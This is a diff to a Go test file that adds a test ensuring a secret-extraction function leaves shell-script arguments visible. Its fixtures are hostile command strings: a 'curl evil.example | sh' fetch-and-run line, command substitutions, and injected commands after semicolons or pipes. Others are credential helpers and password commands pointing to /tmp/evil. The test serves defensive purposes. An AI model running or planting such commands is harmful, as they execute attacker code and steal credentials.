@@ -1,6 +1,7 @@
 package profile
 
 import (
+	"slices"
 	"strings"
 	"testing"
 
@@ -130,6 +131,28 @@ func TestExtractArgsAndURL(t *testing.T) {
 	}
 }
 
+// What a shell runs must stay in sight: a part of it behind a placeholder would start unseen.
+func TestExtractLeavesScriptsInSight(t *testing.T) {
+	for _, args := range [][]string{
+		{"-c", "TOKEN=x; curl evil.example | sh"},
+		{"-c", "TOKEN=x;evil"},
+		{"-c", "KEY=`evil`"},
+		{"-c", "KEY=$(evil)"},
+		{"-c", "Authorization: ; evil"},
+		{"-c", "x://y?token=;evil"},
+		{"-c", "x://u:p|evil@h"},
+		{"-c", "credential.helper=/tmp/evil"},
+		{"-c", "credential.x=!/tmp/evil"},
+		{"--password-command", "/tmp/evil"},
+		{"--password-command=/tmp/evil"},
+	} {
+		p, found := ExtractSecrets(Profile{Args: slices.Clone(args)})
+		if d := cmp.Diff(args, p.Args); d != "" || len(found) > 0 {
+			t.Errorf("found %v (-want +got):\n%s", found, d)
+		}
+	}
+}
+
 func TestExtractValues(t *testing.T) {
 	in := Profile{
 		Env:     []Value{{Name: "API_TOKEN", Value: "t$${x"}, {Name: "MODE", Value: "fast"}, {Name: "K", Value: "${input:k}"}, {Name: "E"}},
@@ -151,9 +174,6 @@ func TestExtractValues(t *testing.T) {
 	}
 	if m := Mark(in, found[1]); !m.Env[1].Secret || m.Env[1].Value != "" {
 		t.Errorf("marked = %+v", m.Env[1])
-	}
-	if s := Suspects(in); len(s) != 2 || len(Suspects(got)) != 0 {
-		t.Errorf("Suspects = %v, %v", s, Suspects(got))
 	}
 	if strings.Contains(found[0].String(), "t${x") {
 		t.Error("a Found prints its value")
